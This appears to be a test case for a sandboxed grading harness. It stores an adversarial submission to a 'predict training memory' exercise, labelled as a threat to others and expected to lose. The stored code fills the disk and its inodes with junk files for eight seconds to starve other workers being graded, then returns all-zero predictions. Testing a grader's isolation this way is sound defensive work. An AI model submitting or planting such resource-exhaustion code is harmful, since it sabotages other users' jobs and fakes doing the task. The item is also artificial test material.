"""Fills its work file system, byte and inode, and keeps grabbing whatever is freed for the rest of
its time, hoping that workers graded at the same time cannot create their own directories or output
files. Each worker's directory is a tmpfs of its own, so only this submission runs out of space;
its prediction is wrong anyway."""
CHAPTER = "ch00_memory"
EXERCISE = "predict_training_memory"
THREAT = "harm_others"
EXPECT = "loses"
DESCRIPTION = __doc__
SOURCE = '''\
def predict_training_memory(model, batch_size, optimizer):
    """Fill the disk, then guess."""
    import os
    import time

    n = 0
    deadline = time.monotonic() + 8
    while time.monotonic() < deadline:
        try:
            with open(f"junk{n}", "wb") as f:
                f.write(b"x" * 65536)
            n += 1
        except OSError:
            try:
                os.remove(f"junk{max(n - 1, 0)}")
            except OSError:
                pass
    return {"parameters": 0, "gradients": 0, "optimizer": 0, "activations": 0, "total": 0}
'''
